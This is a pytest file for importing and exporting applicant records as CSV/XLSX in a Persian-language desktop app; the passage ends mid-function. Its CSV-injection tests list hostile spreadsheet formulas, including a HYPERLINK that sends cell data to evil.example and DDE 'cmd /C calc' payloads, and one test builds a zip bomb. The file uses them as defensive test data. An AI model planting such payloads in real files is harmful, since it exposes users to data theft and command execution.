"""Importing applicants from CSV/XLSX and exporting them: every rejection reason and
message, row numbers, all-or-nothing writes, and export → import round trips."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import tracemalloc

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from desktop.errors import PermissionDenied, UserError, ValidationError
from desktop.models import Applicant, ApplicantIndex, ChangeLog, Role
from desktop.models.db import close_database
from desktop.models.opening import open_database
from desktop.services import (
    applicant_export,
    applicant_files,
    applicant_import,
    applicant_io,
    applicants,
    auth,
)
from desktop.services.applicant_io import (
    EXPORT_FIELDS,
    MissingColumns,
    RowResult,
    Table,
    UnreadableFile,
)
from desktop.services.applicant_search import ApplicantSearch, Filters
from desktop.services.identity import national_code_check_digit
from desktop.services.progress import Cancelled, Progress
from desktop.services.setup import initialise_center
from desktop.services.spreadsheet import unquoted
from desktop.strings import Applicants as ApplicantMessages
from desktop.strings.applicant_io import HEADERS
from desktop.strings.applicant_io import ApplicantIo as Messages
from desktop.strings.spreadsheet import NAME_STARTS_LIKE_FORMULA
from tests.factories import applicant_input, set_up_center
from tests.helpers.cli import CONTRACT, sheet_xml, xlsx_with_sheet


def national_code(n: int) -> str:
    nine = f"{n:09d}"
    return nine + str(national_code_check_digit(nine))


def applicant_row(n: int = 1, **changes: str) -> dict[str, str]:
    row = {
        "national_code": national_code(100_000_000 + n),
        "first_name": "زهرا",
        "last_name": "احمدی",
        "father_name": "علی",
        "gender": "female",
        "birth_date": "1370/05/12",
        "mobile": f"0912{n:07d}",
        "district": "5",
        "categories": "job_seeker;investor",
    }
    row.update(changes)
    return row


def table_of(*people: dict[str, str]) -> Table:
    headers = list(people[0]) if people else CONTRACT
    return Table(headers=headers, rows=[[p.get(h, "") for h in headers] for p in people])


def write_csv(path, people, *, delimiter=",", encoding="utf-8"):
    headers = list(people[0])
    with open(path, "w", encoding=encoding, newline="") as out:
        writer = csv.writer(out, delimiter=delimiter)
        writer.writerow(headers)
        for p in people:
            writer.writerow([p[h] for h in headers])
    return path


def check(admin, *people):
    table = table_of(*people)
    return applicant_io.dry_run(admin, table, applicant_io.guess_mapping(table.headers))


def stored(national: str) -> Applicant:
    return Applicant.get(Applicant.national_code == national)


# -- reading files -----------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig"])
def test_csv_with_or_without_bom(tmp_path, encoding):
    path = write_csv(tmp_path / "in.csv", [applicant_row(1)], encoding=encoding)
    table = applicant_io.read_table(path)
    assert table.headers == CONTRACT  # no "\ufeff" glued to the first header
    assert table.rows == [list(applicant_row(1).values())]
    assert table.first_line == 2


@pytest.mark.parametrize("delimiter", [";", "\t", ","])
def test_csv_delimiter_is_sniffed(tmp_path, delimiter):
    path = write_csv(tmp_path / "in.csv", [applicant_row(1), applicant_row(2)], delimiter=delimiter)
    table = applicant_io.read_table(path)
    assert table.headers == CONTRACT
    assert [row[8] for row in table.rows] == ["job_seeker;investor"] * 2


def test_semicolon_csv_imports(admin, tmp_path):
    path = write_csv(tmp_path / "in.csv", [applicant_row(1), applicant_row(2)], delimiter=";")
    table = applicant_io.read_table(path)
    summary = applicant_io.import_rows(admin, table, applicant_io.guess_mapping(table.headers))
    assert (summary.created, summary.rejected) == (2, 0)
    assert stored(applicant_row(1)["national_code"]).categories == "job_seeker;investor"


def test_xlsx_cells_become_text(admin, tmp_path):
    """Excel turns national codes and mobiles into numbers and dates into date cells."""
    zeros = national_code(1_234_567)  # "00123456…": Excel drops the zeros
    assert zeros.startswith("00")
    headers = ["کد ملی", "نام", "نام خانوادگی", "نام پدر", "جنسیت", "تاریخ تولد", "موبایل"]
    first = [int(zeros), "مریم", "کریمی", "حسن", "زن", dt.datetime(1991, 8, 3), 9121234567]
    second = [national_code(2), "رضا", "رضایی", "محمد", "مرد", "۱۳۶۵/۰۱/۰۱", "09121234568"]
    book = Workbook()
    sheet = book.active
    sheet.append([*headers, "منطقه", "گروه‌ها", "یادداشت"])
    sheet.append([*first, 7.0, "کارجو", 12.5])
    sheet.append([None] * 10)  # an empty row between data rows
    sheet.append([*second, "3", "investor", None])
    for _ in range(3):
        sheet.append([None] * 10)  # trailing empty rows (formatted cells) are dropped
    sheet["J9"].number_format = "0.00"
    book.save(tmp_path / "in.xlsx")

    table = applicant_io.read_table(tmp_path / "in.xlsx")
    assert table.rows[0] == [
        *(zeros.lstrip("0"), "مریم", "کریمی", "حسن", "زن", "1370/05/12", "9121234567"),
        *("7", "کارجو", "12.5"),
    ]
    assert len(table.rows) == 3
    summary = applicant_io.import_rows(admin, table, applicant_io.guess_mapping(table.headers))
    assert summary.results == [
        RowResult(2, "ok", "", ""),
        RowResult(3, "rejected", "", Messages.EMPTY_ROW),
        RowResult(4, "ok", "", ""),
    ]
    maryam = stored(zeros)
    assert (maryam.mobile, maryam.district, maryam.birth_date) == (
        "09121234567",
        7,
        dt.date(1991, 8, 3),
    )
    assert (maryam.gender, maryam.categories, maryam.notes) == ("female", "job_seeker", "12.5")


@pytest.mark.parametrize(
    ("name", "content", "reason", "message"),
    [
        ("missing.csv", None, "missing", Messages.UNREADABLE_MISSING),
        ("people.xls", b"\xd0\xcf\x11\xe0", "format", Messages.UNREADABLE_FORMAT),
        ("people.pdf", b"%PDF-1.4", "format", Messages.UNREADABLE_FORMAT),
        ("ansi.csv", "كد ملي,نام\n".encode("cp1256"), "encoding", Messages.UNREADABLE_ENCODING),
        ("fake.xlsx", b"national_code,first_name\n", "corrupt", Messages.UNREADABLE_CORRUPT),
        ("empty.csv", b"", "empty", Messages.UNREADABLE_EMPTY),
        ("blank.csv", b"\r\n,,\r\n\r\n", "empty", Messages.UNREADABLE_EMPTY),
        ("bom-only.csv", b"\xef\xbb\xbf", "empty", Messages.UNREADABLE_EMPTY),
        ("no-header.csv", b",,\n1,2,3\n", "no_header", Messages.UNREADABLE_NO_HEADER),
        (
            "huge.csv",
            b'a,b\n"' + b"x" * 200_000 + b'",1\n',
            "cell_too_long",
            Messages.CELL_TOO_LONG.format(row="۲", limit="۱۰٬۰۰۰"),
        ),
    ],
)
def test_unreadable_files(tmp_path, name, content, reason, message):
    path = tmp_path / name
    if content is not None:
        path.write_bytes(content)
    with pytest.raises(UnreadableFile) as raised:
        applicant_io.read_table(path)
    assert (raised.value.code, raised.value.reason, raised.value.message) == (
        "unreadable",
        reason,
        message,
    )


# -- what a file may hold -----------------------------------------------------------------


def peak_while(action):
    """The peak of Python allocations while `action` runs, in bytes (and its result)."""
    tracemalloc.start()
    try:
        try:
            result = action()
        except UnreadableFile as error:
            result = error
        return tracemalloc.get_traced_memory()[1], result
    finally:
        tracemalloc.stop()


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path):
    """64 MB of spaces inside one cell pack into about 60 KB: refused on the zip's own
    declarations, and reading never holds what it would unpack to."""
    spaces = (b" " * 2**20 for _ in range(64))
    cell = [b'<row r="1"><c r="A1" t="inlineStr"><is><t>', *spaces, b"</t></is></c></row>"]
    path = xlsx_with_sheet(tmp_path / "bomb.xlsx", sheet_xml(cell))
    assert path.stat().st_size < 2**20
    peak, refused = peak_while(lambda: applicant_io.read_table(path))
    assert isinstance(refused, UnreadableFile) and refused.reason == "too_big"
    assert refused.message == Messages.TOO_BIG.format(csv_limit="۶۴", xlsx_limit="۱۲۸")
    assert peak < 4 * 2**20


def test_a_sheet_past_the_unpacked_size_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(applicant_files, "MAX_XLSX_UNCOMPRESSED", 2**20)
    rows = (
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{n:09d}</t></is></c></row>'.encode()
        for n in range(1, 30_000)
    )
    path = xlsx_with_sheet(tmp_path / "big.xlsx", sheet_xml(rows))
    with pytest.raises(UnreadableFile) as refused:
        applicant_io.read_table(path)
    assert refused.value.reason == "too_big" and refused.value.detail == {"limit": 1}


def test_too_many_rows_are_refused_and_reading_stops_there(tmp_path, monkeypatch):
    monkeypatch.setattr(applicant_files, "MAX_ROWS", 1000)
    rows = (
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>row {n}</t></is></c></row>'.encode()
        for n in range(1, 200_001)
    )
    path = xlsx_with_sheet(tmp_path / "tall.xlsx", sheet_xml(rows))
    peak, refused = peak_while(lambda: applicant_io.read_table(path))
    assert isinstance(refused, UnreadableFile) and refused.reason == "too_many_rows"
    assert refused.message == Messages.TOO_MANY_ROWS.format(limit="۱٬۰۰۰")
    assert peak < 8 * 2**20  # 1,001 rows read, not 200,000


def test_the_row_cap_counts_data_rows_and_lets_empty_ones_after_them_through(tmp_path):
    limit = applicant_io.MAX_ROWS
    lines = ["a,b", *(f"{n},x" for n in range(limit))]
    path = tmp_path / "full.csv"
    path.write_text("\n".join([*lines, *([",,"] * 50)]) + "\n", encoding="utf-8")
    assert len(applicant_io.read_table(path).rows) == limit  # the empty tail dropped
    path.write_text("\n".join([*lines, "one,more"]) + "\n", encoding="utf-8")
    with pytest.raises(UnreadableFile) as refused:
        applicant_io.read_table(path)
    assert refused.value.reason == "too_many_rows" and refused.value.detail == {"limit": limit}


def test_too_many_columns_cells_too_long_and_files_too_big(tmp_path, monkeypatch):
    limit = applicant_io.MAX_COLUMNS
    wide = tmp_path / "wide.csv"
    wide.write_text(
        ",".join(["h"] * limit + [""] * 50) + "\n" + "1," * limit + "\n", encoding="utf-8"
    )
    assert len(applicant_io.read_table(wide).headers) == limit  # empty beyond: cut off
    wide.write_text(",".join(["h"] * (limit + 1)) + "\n", encoding="utf-8")
    with pytest.raises(UnreadableFile) as refused:
        applicant_io.read_table(wide)
    assert refused.value.reason == "too_many_columns"
    assert refused.value.message == Messages.TOO_MANY_COLUMNS.format(limit="۲۰۰")

    long = tmp_path / "long.csv"
    cell = "ب" * (applicant_io.MAX_CELL_CHARS + 1)
    long.write_text(f"a,b\n1,2\n3,{cell}\n", encoding="utf-8")
    with pytest.raises(UnreadableFile) as refused:
        applicant_io.read_table(long)
    assert refused.value.detail == {"limit": applicant_io.MAX_CELL_CHARS, "row": 3}
    long.write_text(f"a,b\n1,{cell[1:]}\n", encoding="utf-8")  # at the limit: read
    assert applicant_io.read_table(long).rows == [["1", cell[1:]]]

    monkeypatch.setattr(applicant_files, "MAX_CSV_BYTES", 1000)
    big = tmp_path / "big.csv"
    big.write_text("a,b\n" + "1,2\n" * 300, encoding="utf-8")
    with pytest.raises(UnreadableFile) as refused:
        applicant_io.read_table(big)
    assert refused.value.reason == "too_big"


def test_empty_xlsx_is_unreadable(tmp_path):
    Workbook().save(tmp_path / "empty.xlsx")
    with pytest.raises(UnreadableFile) as raised:
        applicant_io.read_table(tmp_path / "empty.xlsx")
    assert raised.value.reason == "empty"


def test_utf16_tab_text_from_excel(tmp_path):
    path = write_csv(tmp_path / "in.txt", [applicant_row(1)], delimiter="\t", encoding="utf-16")
    assert applicant_io.read_table(path).headers == CONTRACT


# -- columns -------------------------------------------------------------------------------


def test_mapping_from_english_keys_any_case_and_order():
    headers = [" Mobile ", "NATIONAL_CODE", "extra", *CONTRACT[1:6], "district", "Categories"]
    mapping = applicant_io.guess_mapping(headers)
    assert mapping["mobile"] == 0 and mapping["national_code"] == 1
    assert mapping["categories"] == 9
    assert applicant_io.missing_columns(mapping) == []
    assert 2 not in mapping.values()


def test_mapping_from_persian_headers():
    headers = ["کدملی", "نام", "نام‌خانوادگی", "نام پدر", "جنسیت", "تاريخ تولد", "همراه"]
    headers += ["منطقه", "گروه ها", "تلفن", "آدرس", "رشته تحصیلی", "وضعیت تاهل", "مهارت"]
    mapping = applicant_io.guess_mapping(headers)
    assert mapping == {
        "national_code": 0,
        "first_name": 1,
        "last_name": 2,
        "father_name": 3,
        "gender": 4,
        "birth_date": 5,
        "mobile": 6,
        "district": 7,
        "categories": 8,
        "phone": 9,
        "address": 10,
        "education_field": 11,
        "marital_status": 12,
        "skills": 13,
    }


def test_export_headers_map_back_and_first_column_wins():
    mapping = applicant_io.guess_mapping([HEADERS[name] for name in EXPORT_FIELDS] + ["نام"])
    assert mapping == {name: EXPORT_FIELDS.index(name) for name in applicant_io.IMPORT_FIELDS}


def test_missing_columns_in_contract_order(admin):
    mapping = applicant_io.guess_mapping(["first_name", "last_name", "mobile", "notes"])
    assert applicant_io.missing_columns(mapping) == [
        "national_code",
        "father_name",
        "gender",
        "birth_date",
        "district",
        "categories",
    ]
    table = Table(headers=["first_name", "last_name", "mobile", "notes"], rows=[])
    with pytest.raises(MissingColumns) as raised:
        applicant_io.import_rows(admin, table, mapping)
    assert raised.value.code == "missing_columns"
    assert raised.value.columns[0] == "national_code"
    assert "کد ملی (national_code)" in raised.value.message


# -- rejection reasons ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("national_code", "1234567890", ApplicantMessages.NATIONAL_CODE_INVALID),
        ("national_code", "12345", ApplicantMessages.NATIONAL_CODE_FORMAT),
        ("mobile", "0212345678", ApplicantMessages.MOBILE_FORMAT),
        ("birth_date", "1370/13/01", "ماه باید از ۱ تا ۱۲ باشد."),
        ("birth_date", "12 مرداد", "تاریخ را به شکل ۱۴۰۵/۰۹/۰۱ بنویسید."),
        ("district", "99", ApplicantMessages.DISTRICT_UNKNOWN.format(first="۱", last="۱۰")),
        ("district", "پنج", ApplicantMessages.DISTRICT_UNKNOWN.format(first="۱", last="۱۰")),
        ("gender", "x", ApplicantMessages.GENDER_REQUIRED),
        ("categories", "astronaut", ApplicantMessages.CATEGORY_UNKNOWN.format(key="astronaut")),
        ("categories", "", ApplicantMessages.CATEGORY_REQUIRED),
        ("first_name", "", ApplicantMessages.REQUIRED),
    ],
)
def test_each_rejection_reason(admin, field, value, message):
    results = check(admin, applicant_row(1), applicant_row(2, **{field: value}))
    assert results == [RowResult(2, "ok", "", ""), RowResult(3, "rejected", field, message)]


def test_every_problem_of_a_row_is_reported(admin):
    """A result per problem, all with the row's number; the rows around are untouched."""
    results = check(
        admin,
        applicant_row(1),
        applicant_row(2, mobile="1", national_code="1", gender="?"),
        applicant_row(3),
    )
    assert [(r.row, r.status, r.field, r.message) for r in results] == [
        (2, "ok", "", ""),
        (3, "rejected", "national_code", ApplicantMessages.NATIONAL_CODE_FORMAT),
        (3, "rejected", "gender", ApplicantMessages.GENDER_REQUIRED),
        (3, "rejected", "mobile", ApplicantMessages.MOBILE_FORMAT),
        (4, "ok", "", ""),
    ]
    table = table_of(applicant_row(1), applicant_row(2, mobile="1", gender="?"))
    summary = applicant_io.import_rows(
        admin, table, applicant_io.guess_mapping(CONTRACT), dry_run=True
    )
    assert (summary.rows, summary.accepted, summary.rejected) == (2, 1, 1)


def test_a_duplicate_national_code_is_reported_beside_the_other_problems(admin):
    import_people(admin, applicant_row(1))
    results = check(
        admin, applicant_row(1, mobile="1"), applicant_row(2), applicant_row(2, district="99")
    )
    assert [(r.row, r.field) for r in results] == [
        (2, "mobile"),
        (2, "national_code"),  # already registered here
        (3, ""),
        (4, "district"),
        (4, "national_code"),  # the same as row 3's
    ]
    assert "TEH05-000001" in results[1].message
    assert results[4].message == Messages.DUPLICATE_IN_FILE.format(line="۳")


def test_duplicate_of_a_registered_applicant(admin):
    existing = applicants.register(
        admin, applicants.ApplicantInput(**{**applicant_row(1), "categories": ["job_seeker"]})
    )
    results = check(admin, applicant_row(1), applicant_row(2))
    assert results[0] == RowResult(
        2,
        "rejected",
        "national_code",
        ApplicantMessages.DUPLICATE.format(
            file_number=existing.file_number, name=existing.full_name
        ),
    )
    assert "پیش‌تر ثبت شده" in results[0].message
    assert results[1].status == "ok"


def test_duplicate_of_a_deleted_applicant(admin):
    existing = applicants.register(
        admin, applicants.ApplicantInput(**{**applicant_row(1), "categories": ["job_seeker"]})
    )
    applicants.delete(admin, existing.id, "ثبت اشتباه")
    [result] = check(admin, applicant_row(1))
    assert result.message == ApplicantMessages.DUPLICATE_DELETED.format(
        file_number=existing.file_number
    )


def test_duplicate_within_the_file_names_the_earlier_row(admin):
    results = check(
        admin,
        applicant_row(1, mobile="bad"),  # row 2: rejected, so row 3 is the one accepted
        applicant_row(1),  # row 3
        applicant_row(2),  # row 4
        applicant_row(1, first_name="مریم"),  # row 5
    )
    assert [r.status for r in results] == ["rejected", "ok", "ok", "rejected"]
    assert results[3] == RowResult(
        5, "rejected", "national_code", Messages.DUPLICATE_IN_FILE.format(line="۳")
    )
    assert "سطر ۳" in results[3].message


def test_the_preview_says_who_each_row_is_and_the_file_it_would_get(admin):
    registered = {**applicant_row(9), "categories": ["investor"]}
    applicants.register(admin, applicants.ApplicantInput(**registered))
    results = check(
        admin,
        applicant_row(1, first_name="مريم"),  # Arabic ي: shown as it will be stored
        applicant_row(2, national_code="۰۰۱-۲۳"),  # rejected: shown as typed, digits normalised
        applicant_row(9),  # already registered as TEH05-000001
        applicant_row(3, last_name="کاظمی"),
    )
    assert [(r.name, r.national_code, r.file_number) for r in results] == [
        ("مریم احمدی", national_code(100_000_001), "TEH05-000002"),
        ("زهرا احمدی", "00123", ""),
        ("زهرا احمدی", national_code(100_000_009), ""),
        ("زهرا کاظمی", national_code(100_000_003), "TEH05-000003"),
    ]
    table = table_of(applicant_row(1), applicant_row(3))
    created = applicant_io.import_rows(admin, table, applicant_io.guess_mapping(table.headers))
    assert created.created == 2
    assert stored(national_code(100_000_003)).file_number == "TEH05-000003"  # as announced


def test_duplicate_lookup_is_chunked_not_per_row(admin, monkeypatch):
    monkeypatch.setattr(applicant_import, "_LOOKUP_CHUNK", 3)
    for n, name in ((1, "مینا"), (5, "نرگس")):
        applicants.register(
            admin,
            applicants.ApplicantInput(
                **{**applicant_row(n, first_name=name), "categories": ["investor"]}
            ),
        )
    queries = []
    real = applicant_import._dicts
    monkeypatch.setattr(applicant_import, "_dicts", lambda query: queries.append(1) or real(query))
    results = check(admin, *(applicant_row(n) for n in range(1, 8)))
    assert [r.status for r in results] == ["rejected", "ok", "ok", "ok", "rejected", "ok", "ok"]
    assert len(queries) == 3  # 7 codes in chunks of 3


def test_persian_values_and_optional_columns(admin):
    row = applicant_row(
        1,
        gender="زن",
        birth_date="۱۳۷۰/۰۵/۱۲",
        district="۵",
        categories="کارجو؛ سرمایه‌گذار",
        mobile="۰۹۱۲ ۳۴۵ ۶۷۸۹",
    )
    row |= {
        "phone": "021-55667788",
        "address": "تهران، خيابان آزادی",
        "education_level": "دیپلم",
        "education_field": "حسابداری",
        "marital_status": "متاهل",
        "skills": "خیاطی؛ آشپزی;خیاطی",
        "notes": "از طریق فراخوان",
    }
    table = table_of(row)
    summary = applicant_io.import_rows(admin, table, applicant_io.guess_mapping(table.headers))
    assert summary.created == 1
    applicant = stored(row["national_code"])
    assert (applicant.gender, applicant.birth_date, applicant.district) == (
        "female",
        dt.date(1991, 8, 3),
        5,
    )
    assert (applicant.categories, applicant.mobile, applicant.phone) == (
        "job_seeker;investor",
        "09123456789",
        "02155667788",
    )
    assert (applicant.education_level, applicant.marital_status) == ("diploma", "married")
    assert (applicant.skills, applicant.address) == ("خیاطی;آشپزی", "تهران، خیابان آزادی")


def test_unknown_choice_in_optional_column(admin):
    [result] = check(admin, applicant_row(1) | {"education_level": "فوق‌دیپلم ناشناخته"})
    assert (result.field, result.message) == ("education_level", ApplicantMessages.CHOICE_UNKNOWN)


def test_short_rows_read_missing_cells_as_empty(admin):
    table = table_of(applicant_row(1))
    table.rows[0] = table.rows[0][:5]
    results = applicant_io.dry_run(admin, table, applicant_io.guess_mapping(table.headers))
    assert [(r.field, r.message) for r in results] == [
        ("birth_date", ApplicantMessages.REQUIRED),
        ("mobile", ApplicantMessages.MOBILE_FORMAT),
        ("district", ApplicantMessages.REQUIRED),
        ("categories", ApplicantMessages.CATEGORY_REQUIRED),
    ]


# -- importing -----------------------------------------------------------------------------


def test_import_creates_accepted_rows_with_change_log(admin):
    table = table_of(applicant_row(1), applicant_row(2, mobile="x"), applicant_row(3))
    logs_before = ChangeLog.select().count()
    summary = applicant_io.import_rows(admin, table, applicant_io.guess_mapping(table.headers))
    assert (summary.created, summary.rejected, summary.accepted) == (2, 1, 2)
    assert Applicant.select().count() == 2
    assert ChangeLog.select().count() == logs_before + 4  # applicant + status entry each
    assert stored(applicant_row(3)["national_code"]).file_number == "TEH05-000002"


def test_dry_run_writes_nothing(admin):
    table = table_of(applicant_row(1), applicant_row(2, gender=""))
    summary = applicant_io.import_rows(
        admin, table, applicant_io.guess_mapping(table.headers), dry_run=True
    )
    assert (summary.created, summary.rejected, summary.accepted) == (0, 1, 1)
    assert Applicant.select().count() == 0


def test_all_or_nothing_when_the_write_fails(admin, monkeypatch):
    real = applicants.bulk_create

    def fail_after_writing(session, cleans, **kwargs):
        real(session, cleans, **kwargs)
        raise RuntimeError("disk full")

    monkeypatch.setattr(applicants, "bulk_create", fail_after_writing)
    logs_before = ChangeLog.select().count()
    table = table_of(applicant_row(1), applicant_row(2))
    with pytest.raises(RuntimeError):
        applicant_io.import_rows(admin, table, applicant_io.guess_mapping(table.headers))
    assert Applicant.select().count() == 0
    assert ChangeLog.select().count() == logs_before


def test_a_duplicate_slipping_past_the_check_rolls_back_everything(admin, monkeypatch):
    """Another clerk registered row 3's person between the check and the write."""
    applicants.register(
        admin, applicants.ApplicantInput(**{**applicant_row(2), "categories": ["investor"]})
    )
    monkeypatch.setattr(applicant_import, "_registered", lambda session, codes: {})
    table = table_of(applicant_row(1), applicant_row(2), applicant_row(3))
    with pytest.raises(UserError) as raised:
        applicant_io.import_rows(admin, table, applicant_io.guess_mapping(table.headers))
    assert (raised.value.code, raised.value.message) == ("conflict", Messages.WRITE_CONFLICT)
    assert [a.national_code for a in Applicant.select()] == [applicant_row(2)["national_code"]]


def test_progress_is_reported_and_cancel_writes_nothing(admin):
    table = table_of(*(applicant_row(n) for n in range(1, 4)))
    mapping = applicant_io.guess_mapping(table.headers)
    calls = []
    applicant_io.import_rows(
        admin, table, mapping, dry_run=True, progress=lambda d, t: calls.append((d, t))
    )
    assert calls[0] == (0, 3) and calls[-1] == (3, 3)

    progress = Progress()
    progress.cancel()
    with pytest.raises(Cancelled):
        applicant_io.import_rows(admin, table, mapping, progress=progress.step)
    assert Applicant.select().count() == 0


def test_cancel_at_the_last_moment_before_the_write(admin):
    table = table_of(applicant_row(1), applicant_row(2))
    progress = Progress()

    def step(done, total):
        if done == total:
            progress.cancel()
        progress.step(done, total)

    with pytest.raises(Cancelled):
        applicant_io.import_rows(
            admin, table, applicant_io.guess_mapping(table.headers), progress=step
        )
    assert Applicant.select().count() == 0


def test_roles(admin):
    table = table_of(applicant_row(1))
    mapping = applicant_io.guess_mapping(table.headers)
    with pytest.raises(PermissionDenied):
        applicant_io.import_rows(dataclasses.replace(admin, role=Role.TRAINER), table, mapping)
    clerk = dataclasses.replace(admin, role=Role.CLERK)
    assert applicant_io.import_rows(clerk, table, mapping).created == 1


# -- the report ----------------------------------------------------------------------------


def test_report_columns_and_row_numbers(admin, tmp_path):
    three_problems = applicant_row(3, mobile="1", gender="?", district="99")
    people = [applicant_row(1), applicant_row(2, mobile="۱۲"), applicant_row(1), three_problems]
    path = write_csv(tmp_path / "in.csv", people)
    table = applicant_io.read_table(path)
    summary = applicant_io.import_rows(admin, table, applicant_io.guess_mapping(table.headers))
    assert (summary.rows, summary.accepted, summary.rejected, summary.created) == (4, 1, 3, 1)
    applicant_io.write_report(summary.results, tmp_path / "report.csv")
    data = (tmp_path / "report.csv").read_bytes()
    assert data.startswith(b"row,status,field,message\n")  # no BOM, header first
    lines = data.decode("utf-8").splitlines()
    district = ApplicantMessages.DISTRICT_UNKNOWN.format(first="۱", last="۱۰")
    assert lines == [
        "row,status,field,message",
        "2,ok,,",
        f"3,rejected,mobile,{ApplicantMessages.MOBILE_FORMAT}",
        f"4,rejected,national_code,{Messages.DUPLICATE_IN_FILE.format(line='۲')}",
        f"5,rejected,gender,{ApplicantMessages.GENDER_REQUIRED}",
        f"5,rejected,mobile,{ApplicantMessages.MOBILE_FORMAT}",
        f"5,rejected,district,{district}",
    ]
    with open(tmp_path / "report.csv", encoding="utf-8", newline="") as report:
        rows = list(csv.DictReader(report))
    assert [row["row"] for row in rows] == ["2", "3", "4", "5", "5", "5"]


# -- export ----------------------------------------------------------------------------------


def import_people(admin, *people):
    table = table_of(*people)
    summary = applicant_io.import_rows(admin, table, applicant_io.guess_mapping(table.headers))
    assert summary.rejected == 0, summary.results


FULL = applicant_row(
    7,
    national_code=national_code(1_234_567),
    gender="male",
    categories="idea_holder;seasonal_worker",
) | {
    "phone": "02155667788",
    "address": "تهران، خیابان آزادی، کوچهٔ ۱۲",
    "education_level": "bachelor",
    "education_field": "مهندسی برق",
    "marital_status": "single",
    "skills": "برق‌کاری;لوله‌کشی",
    "notes": '=HYPERLINK("http://example.com")\nخط دوم',
}


def test_export_xlsx_is_rtl_with_persian_headers(admin, tmp_path):
    import_people(admin, FULL, applicant_row(2))
    out = tmp_path / "out.xlsx"
    assert applicant_io.export(admin, ApplicantSearch(admin), out) == 2
    sheet = load_workbook(out).active
    assert sheet.sheet_view.rightToLeft is True
    assert [cell.value for cell in sheet[1]] == [HEADERS[name] for name in EXPORT_FIELDS]
    assert sheet[1][0].value == "شماره پرونده" and sheet[1][1].value == "کد ملی"
    row = {name: cell for name, cell in zip(EXPORT_FIELDS, sheet[2], strict=True)}
    assert row["national_code"].value == FULL["national_code"]  # leading zeros kept
    assert row["national_code"].data_type == "s" and row["mobile"].data_type == "s"
    assert row["birth_date"].value == "1370/05/12"
    assert (row["gender"].value, row["district"].value) == ("مرد", 5)
    assert row["categories"].value == "صاحب ایده؛ کارگر فصلی و ساختمانی"
    assert row["notes"].data_type == "s" and row["notes"].value.startswith("=HYPERLINK")
    assert row["status"].value == "ثبت‌شده"
    assert sheet.column_dimensions["A"].width == 16
    assert sheet.column_dimensions["L"].width == 40  # address
    assert not list(tmp_path.glob(".*.part"))


def test_export_csv_has_bom_and_contract_header(admin, tmp_path):
    import_people(admin, FULL)
    out = tmp_path / "out.csv"
    assert applicant_io.export(admin, ApplicantSearch(admin), out) == 1
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbffile_number,national_code,first_name,")
    with open(out, encoding="utf-8-sig", newline="") as exported:
        [row] = list(csv.DictReader(exported))
    assert list(row) == list(EXPORT_FIELDS)
    assert row["file_number"] == "TEH05-000001" and row["status"] == "registered"
    assert row["notes"] == "'" + FULL["notes"]  # a formula, quoted (see below)
    assert {name: row[name] for name in FULL if name != "notes"} == {
        name: value for name, value in FULL.items() if name != "notes"
    }


# -- formulas never run (CSV injection) -------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+98 912",
    "=1+1",
]


@settings(
    suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=40
)
@given(
    text=st.text(
        alphabet=st.one_of(st.sampled_from("=+-@\t\r\n '\"|,;"), st.characters()), max_size=12
    )
)
def test_no_exported_csv_cell_starts_like_a_formula(admin, tmp_path_factory, text):
    code = national_code(300_000_000 + len(Applicant.select()))
    import_people(admin, applicant_row(1, national_code=code, notes=text, address=text))
    out = tmp_path_factory.mktemp("export") / "out.csv"
    applicant_io.export(admin, ApplicantSearch(admin, code), out)
    with open(out, encoding="utf-8-sig", newline="") as exported:
        [row] = list(csv.DictReader(exported))
    stored_notes = stored(code).notes
    for name in EXPORT_FIELDS:
        cell = row[name]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    assert unquoted(row["notes"]) == stored_notes  # only quoted, never changed


def test_formulas_are_quoted_in_csv_text_in_xlsx_and_read_back(admin, tmp_path):
    people = [
        applicant_row(n, notes=text, address=text) for n, text in enumerate(FORMULAS, start=1)
    ]
    import_people(admin, *people)
    csv_out, xlsx_out = tmp_path / "out.csv", tmp_path / "out.xlsx"
    applicant_io.export(admin, ApplicantSearch(admin), csv_out)
    applicant_io.export(admin, ApplicantSearch(admin), xlsx_out)
    with open(csv_out, encoding="utf-8-sig", newline="") as exported:
        rows = list(csv.DictReader(exported))
    assert sorted(row["notes"] for row in rows) == sorted("'" + text for text in FORMULAS)
    sheet = load_workbook(xlsx_out).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    notes = EXPORT_FIELDS.index("notes")
    assert sorted(row[notes].value for row in sheet.iter_rows(min_row=2)) == sorted(FORMULAS)
    # Both files read back into another center as they were written.
    for out in (csv_out, xlsx_out):
        other = fresh_center()
        assert import_everything(other, out).created == len(FORMULAS)
        assert sorted(a.notes for a in Applicant.select()) == sorted(FORMULAS)


def test_the_report_quotes_formulas_too(tmp_path):
    out = tmp_path / "report.csv"
    applicant_io.write_report([RowResult(2, "rejected", "notes", "=1+1")], out)
    assert out.read_text(encoding="utf-8") == "row,status,field,message\n2,rejected,notes,'=1+1\n"


@pytest.mark.parametrize("name", ["first_name", "last_name", "father_name"])
@pytest.mark.parametrize("value", ['=HYPERLINK("x")', "+علی", "-رضا", "@زهرا", "\t=علی", " =علی"])
def test_a_name_that_starts_like_a_formula_is_refused(admin, name, value):
    with pytest.raises(ValidationError) as refused:
        applicants.validate(applicant_input(**{name: value}))
    assert refused.value.errors == {name: NAME_STARTS_LIKE_FORMULA}
    [result] = check(admin, applicant_row(1, **{name: value}))
    assert (result.status, result.field, result.message) == (
        "rejected",
        name,
        NAME_STARTS_LIKE_FORMULA,
    )
    applicants.validate(applicant_input(**{name: "علی-رضا"}))  # inside a name, a dash is fine


def import_everything(admin, path):
    table = applicant_io.read_table(path)
